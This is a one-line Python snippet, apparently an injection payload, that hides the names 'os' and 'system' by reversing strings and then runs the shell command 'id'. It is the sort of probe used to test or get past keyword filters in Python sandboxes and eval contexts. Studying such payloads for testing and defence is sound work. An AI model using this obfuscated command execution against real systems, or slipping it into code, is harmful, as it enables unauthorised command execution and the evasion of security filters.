getattr(__import__("so"[::-1]), "metsys"[::-1])("id")
